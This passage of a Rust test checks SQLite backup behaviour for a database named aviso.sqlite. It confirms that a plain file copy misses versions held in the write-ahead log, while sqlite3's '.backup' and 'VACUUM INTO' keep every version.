    // What the README warns against: a plain copy of the main file lacks them.
    let plain = dir.path().join("cp");
    std::fs::create_dir(&plain).unwrap();
    std::fs::copy(&db, plain.join("aviso.sqlite")).unwrap();
    let copied = versions_in(&plain.join("aviso.sqlite"));
    assert!(
        copied.len() < live.len(),
        "the versions were not in the WAL only: cp kept {copied:?}"
    );

    // What the README documents, while the service runs: every version is in the copy.
    for (name, command) in [
        ("backup.sqlite", ".backup 'BACKUP'"),
        ("vacuum.sqlite", "VACUUM INTO 'BACKUP'"),
    ] {
        let target = dir.path().join(name);
        let out = Command::new("sqlite3")
            .arg(&db)
            .arg(command.replace("BACKUP", &target.display().to_string()))
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{command}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(versions_in(&target), live, "{command}");
    }
    drop(reader);
    eprintln!(
        "backup: {} versions live ({} kB of WAL); cp of aviso.sqlite kept {}, .backup and VACUUM INTO kept all",
        live.len(),
        wal / 1024,
        copied.len()
    );
}
